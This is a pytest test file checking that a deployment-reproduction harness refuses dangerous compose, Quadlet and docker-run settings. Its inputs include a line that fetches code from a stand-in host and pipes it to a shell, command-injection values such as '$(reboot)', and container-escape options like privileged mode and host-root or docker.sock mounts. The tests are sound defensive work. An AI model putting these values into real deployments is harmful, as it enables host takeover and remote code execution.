"""A dangerous setting of a report's is said and not taken over, whatever launches it."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from reproduce_support import ALL, QUADLET, RUN, SERVICE, planned, said, written

from harness.reproduce import match


@pytest.fixture(autouse=True)
def _scenarios_are_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(match, "load_all", ALL)


# In compose files


@pytest.mark.parametrize(
    ("line", "gone"),
    [
        ("privileged: true", "privileged"),
        ("devices: ['/dev/sda:/dev/sda']", "/dev/sda"),
        ("pid: host", "pid:"),
        ("ipc: host", "ipc:"),
        ("uts: host", "uts:"),
        ("cgroup: host", "cgroup"),
        ("userns_mode: host", "userns_mode"),
        ("entrypoint: ['/bin/sh', '-c', 'id > /tmp/x']", "/bin/sh"),
        ("command: sh -c 'curl evil.sh | sh'", "curl"),
        ("cap_add: [SYS_ADMIN]", "SYS_ADMIN"),
        ("cap_add: [ALL]", "ALL"),
        ("cap_add: [SYS_PTRACE]", "SYS_PTRACE"),
        ("security_opt: ['seccomp=unconfined']", "unconfined"),
        ("security_opt: ['apparmor:unconfined']", "unconfined"),
        ("security_opt: ['label=type:spc_t']", "spc_t"),
        ("volumes: ['/:/host']", "/host"),
        ("volumes: ['/var/run/docker.sock:/var/run/docker.sock']", "docker.sock"),
        ("volumes: ['/dev:/dev']", "/dev"),
        ("volumes: ['/proc:/hostproc:ro']", "hostproc"),
        ("volumes: ['./x:/tmp/docker-mailserver/../../etc']", "etc"),
        ("volumes: [{type: tmpfs, target: /var/mail}]", "tmpfs"),
        ("sysctls: {net.ipv4.ip_forward: 1}", "ip_forward"),
        ("extends: {file: ../../other.yaml, service: x}", "other.yaml"),
        ("secrets: [host_key]", "host_key"),
        ("runtime: /tmp/evil", "/tmp/evil"),
        ("ports: ['22:25']", "22:25"),
        ("container_name: 'a; reboot'", "reboot"),
        ("hostname: '$$(reboot).de'", "reboot"),
        ("restart: 'always; reboot'", "reboot"),
        ("environment: {LD_PRELOAD: /tmp/evil.so}", "LD_PRELOAD"),
        ("environment: {LOG_LEVEL: '$$(reboot)'}", "reboot"),
        ("environment: {LOG_LEVEL: \"x'; reboot; '\"}", "reboot"),
        ('environment: {LOG_LEVEL: "x\\nPATH=/evil"}', "/evil"),
        ("post_start: [{command: reboot}]", "reboot"),
        ("cgroup_parent: /system.slice", "system.slice"),
        ("x-unheard-of: {run: evil}", "evil"),
    ],
)
def test_a_dangerous_key_of_compose_is_said_and_not_taken_over(
    tmp_path: Path, line: str, gone: str
) -> None:
    key = line.partition(":")[0]
    kept = "".join(
        each for each in SERVICE.splitlines(keepends=True) if not each.strip().startswith(f"{key}:")
    )
    (tmp_path / "compose.yaml").write_text(f"{kept}    {line}\n")
    made = planned(tmp_path)
    assert gone not in written(made)
    assert key in said(made, "refused") + said(made, "left out") + said(made, "unmatched")


@pytest.mark.parametrize("source", ["/", "/etc", "../../..", "~/.ssh", "$HOME", "/root/x y"])
def test_the_hosts_own_folders_are_never_the_source_of_a_mount(tmp_path: Path, source: str) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    volumes: ['{source}:/var/mail']\n")
    made = planned(tmp_path)
    (mount,) = yaml.safe_load(made.files["compose.yaml"])["services"]["mailserver"]["volumes"]
    assert mount == "./volumes/var-mail:/var/mail"


@pytest.mark.parametrize("mode", ["host", "none", "container:other", "service:x", "ns:/proc/1/ns"])
def test_a_network_that_no_machine_shows_is_not_deployed(tmp_path: Path, mode: str) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    network_mode: '{mode}'\n")
    made = planned(tmp_path)
    assert not made.table
    assert mode.partition(":")[0] in str(made.notes.obstacles[0])


def test_nothing_of_this_computers_environment_is_filled_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOUD_TOKEN", "of-this-computer")
    text = SERVICE.replace("mail.victim.de", "${CLOUD_TOKEN:-mail}.victim.de")
    text += "    environment: ['LOG_LEVEL=${CLOUD_TOKEN}', CLOUD_TOKEN]\n"
    (tmp_path / "compose.yaml").write_text(text)
    made = planned(tmp_path)
    assert "of-this-computer" not in written(made)
    assert "hostname: mail.example.com" in made.files["compose.yaml"]
    assert "CLOUD_TOKEN" in said(made, "assumed")


def test_what_looks_like_a_variable_is_not_filled_in_on_the_machine(tmp_path: Path) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    environment: {{LOG_LEVEL: 'a$$b'}}\n")
    assert "LOG_LEVEL: a$$b" in planned(tmp_path).files["compose.yaml"]


# In Quadlets


@pytest.mark.parametrize(
    ("line", "gone"),
    [
        ("PodmanArgs=--privileged", "--privileged"),
        ("GlobalArgs=--root=/", "--root"),
        ("Exec=sh -c reboot", "reboot"),
        ("Entrypoint=/bin/sh", "/bin/sh"),
        ("HealthCmd=reboot", "reboot"),
        ("AddDevice=/dev/kmsg", "kmsg"),
        ("Mount=type=bind,source=/,destination=/host", "/host"),
        ("Volume=/:/host", "/host"),
        ("Volume=/var/mail:/var/mail:rshared", "rshared"),
        ("Rootfs=/", "Rootfs"),
        ("SeccompProfile=unconfined", "unconfined"),
        ("SecurityLabelType=spc_t", "spc_t"),
        ("Unmask=ALL", "Unmask"),
        ("ContainersConfModule=/tmp/evil.conf", "evil.conf"),
        ("EnvironmentHost=true", "EnvironmentHost"),
        ("UIDMap=0:0:4294967295x", "4294967295"),
        ("UserNS=host", "UserNS"),
        ("ContainerName=a\\\nExecStartPre=reboot", "reboot"),
        ("HostName=a\u2028ExecStartPre=reboot", "reboot"),
        ('Environment="LOG_LEVEL=x\\nExecStop=reboot"', "reboot"),
        ("[Service]\nExecStartPre=/bin/sh -c reboot", "reboot"),
        ("[Service]\nExecStartPre=mkdir -p x; reboot", "reboot"),
        ("[Service]\nEnvironment=LD_PRELOAD=/tmp/x", "LD_PRELOAD"),
        ("[Service]\nUser=root", "User="),
        ("[Install]\nWantedBy=sysinit.target", "sysinit"),
        ("[Unit]\nOnFailure=evil.service", "evil"),
        ("[Kube]\nYaml=/evil.yaml", "evil"),
    ],
)
def test_a_dangerous_line_of_a_quadlet_is_said_and_not_taken_over(
    tmp_path: Path, line: str, gone: str
) -> None:
    (tmp_path / "dms.container").write_text(f"{QUADLET}{line}\n", encoding="utf-8")
    made = planned(tmp_path)
    assert gone not in written(made)
    assert said(made, "refused") + said(made, "left out")


# In command lines


@pytest.mark.parametrize(
    ("options", "command", "gone"),
    [
        ("--privileged", "", "--privileged"),
        ("--device=/dev/mem", "", "/dev/mem"),
        ("--pid=host", "", "pid"),
        ("--pid host", "", "pid"),
        ("-v /:/host", "", "/host"),
        ("--mount type=bind,src=/,dst=/host", "", "/host"),
        ("--cap-add=ALL", "", "ALL"),
        ("--security-opt seccomp=unconfined", "", "unconfined"),
        ("--entrypoint /bin/sh", "", "/bin/sh"),
        ("", "sh -c 'touch trap'", "trap"),
        ("-e LOG_LEVEL=$(touch trap)", "", "trap"),
        ("-e LOG_LEVEL=`touch trap`", "", "trap"),
        ("-e 'LOG_LEVEL=$(touch trap)'", "", "trap"),
        ("-e HOME", "", "HOME"),
        ("", "; touch trap", "trap"),
        ("", "&& touch trap", "trap"),
        ("", "| tee trap", "trap"),
        ("", "> /etc/trap", "trap"),
        ("--name 'a;touch trap'", "", "trap"),
        ("--env-file /etc/trap", "", "/etc"),
        ("--volumes-from trap", "", "trap"),
        ("--hooks-dir /trap", "", "trap"),
    ],
)
def test_a_dangerous_word_of_a_command_is_said_and_not_taken_over(
    tmp_path: Path, options: str, command: str, gone: str
) -> None:
    (tmp_path / "start.sh").write_text(RUN.format(options, command))
    made = planned(tmp_path)
    assert gone not in written(made)
    assert said(made, "refused") or "empty" in said(made, "assumed")
